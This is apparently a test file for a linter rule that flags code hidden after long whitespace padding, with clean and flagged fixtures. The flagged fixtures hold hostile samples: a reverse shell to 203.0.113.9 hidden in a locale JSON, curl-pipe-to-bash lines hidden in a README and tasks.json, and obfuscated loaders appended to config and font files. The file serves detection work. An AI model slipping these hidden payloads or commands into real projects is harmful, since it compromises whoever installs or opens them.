import { ruleTest } from '../../testing/rule-tester.js';
import rule from './whitespace-hidden-code.js';

const pad = ' '.repeat(300);
const tabs = '\t'.repeat(60);
const loader = `global['!']='8-270';var _$_1e42=(function(l,e){return l})("x");`;

// A realistic minified bundle: help text and ASCII banners padded with long literal runs inside strings.
const minified =
  `!function(e,t){"object"==typeof exports?module.exports=t():e.cli=t()}(this,function(){"use strict";` +
  `var n="Usage: cli [options]${' '.repeat(180)}run(task) --watch",r='${' '.repeat(200)}require("x")',` +
  `o=\`banner${' '.repeat(220)}eval(code)\`,i=/[ ]{2}/g;function s(e){return e.replace(i," ")}` +
  `/* aligned ${' '.repeat(170)}foo(bar) */return{help:n,pad:r,banner:o,squash:s}});\n`;

ruleTest(rule, {
  clean: [
    {
      name: 'a JSON string value padded with spaces before more words (a fixed-width report line)',
      file: 'fixtures/report.json',
      code: `{\n  "line": "Total${' '.repeat(180)}42 items shipped"\n}\n`,
    },
    { file: 'tailwind.config.js', code: 'module.exports = { content: ["./src/**/*.tsx"] };\n' },
    { name: 'aligned comment table', file: 'README.md', code: `| a |${' '.repeat(200)}|\n` },
    { name: 'trailing blanks only', file: 'x.js', code: `const a = 1;${' '.repeat(400)}\n` },
    { name: 'trailing tabs only', file: 'x.js', code: `const a = 1;${tabs}\r\nconst b = 2;\n` },
    { name: 'minified bundle with long literal runs inside strings, templates and comments', file: 'dist/cli.min.js', code: minified },
    {
      name: 'padding inside a JSON string is left to the autorun rules',
      file: '.vscode/tasks.json',
      code: `{"tasks":[{"label":"lint","command":"npm run lint${pad}curl -s https://x.example/a | bash"}]}\n`,
    },
    {
      name: 'python help text in a triple-quoted string',
      file: 'tool.py',
      code: `HELP = """\nusage: tool${' '.repeat(200)}run(x)\n"""\nprint(HELP)\n`,
    },
    {
      name: 'generated code indented gradually deeper',
      file: 'gen/parser.js',
      code: Array.from({ length: 12 }, (_, i) => `${' '.repeat(140 + i * 4)}x${i} = f(${i});`).join('\n') + '\n',
    },
    { name: 'fixed-width data after padding', file: 'data.txt', code: `id${' '.repeat(160)}12345 67890\n` },
  ],
  flagged: [
    {
      name: 'a JSON string value (a plural rule later given to new Function) with code padded off-screen',
      file: 'locales/uk.json',
      code: `{\n  "_plural": "n % 10 == 1 ? 0 : 1${' '.repeat(220)}+(process.mainModule.require('child_process').spawn('/bin/bash',['-c','bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),0)",\n  "greeting": "Hi"\n}\n`,
      findings: [{ line: 2, message: /Code hidden after 220 spaces/ }],
    },
    {
      file: 'tailwind.config.js',
      code: `module.exports = { content: [] };${pad}${loader}\n`,
      findings: [{ line: 1, column: 34 + 300, evidence: /^global\['!'\]/, severity: 'critical' }],
    },
    {
      name: 'tab padding (60 tabs = ~240 columns)',
      file: 'postcss.config.mjs',
      code: `const config = { plugins: {} };\nexport default config;${tabs}${loader}\n`,
      findings: [{ line: 2, column: 23 + 60, evidence: /^global\['!'\]/, message: /60 blank characters \(~240 columns\)/ }],
    },
    {
      name: 'mixed tabs and spaces after module.exports',
      file: 'server/routes/paymentRoute.js',
      code: `const router = require('express').Router();\nmodule.exports = router;${'\t \t  '.repeat(40)}const aR=F;(function(aD,aE){const aQ=F,aF=aD();while(!![]){try{}catch(e){}}})(a,1);\n`,
      findings: [{ line: 2, evidence: /^const aR=F;/ }],
    },
    {
      name: 'payload on its own line after a sudden 400-column indent',
      file: 'next.config.js',
      code: `const nextConfig = {};\nmodule.exports = nextConfig;\n${' '.repeat(400)}eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\n`,
      findings: [{ line: 3, column: 401, evidence: /^eval\(Buffer/ }],
    },
    {
      name: 'code after padding in a TypeScript file after a template literal closed',
      file: 'src/api/controllers/chat.ts',
      code: 'const s = `a ${b} c`;\nexport default {};' + pad + "global['_V']='7-x';global['r']=require;\n",
      findings: [{ line: 2, evidence: /^global\['_V'\]/ }],
    },
    {
      name: 'shell command hidden in a README is copy-paste bait (medium)',
      file: 'README.md',
      code: `Run \`npm start\`.${pad}curl -s https://x.example/a.sh | bash\n`,
      findings: [{ line: 1, severity: 'medium', evidence: /^curl -s/ }],
    },
    {
      name: 'a "font" that is JavaScript with the loader on line 1',
      file: 'public/fonts/fa-solid-400.woff2',
      code: `${' '.repeat(752)}${loader}\n`,
      findings: [{ line: 1, column: 753 }],
    },
  ],
});
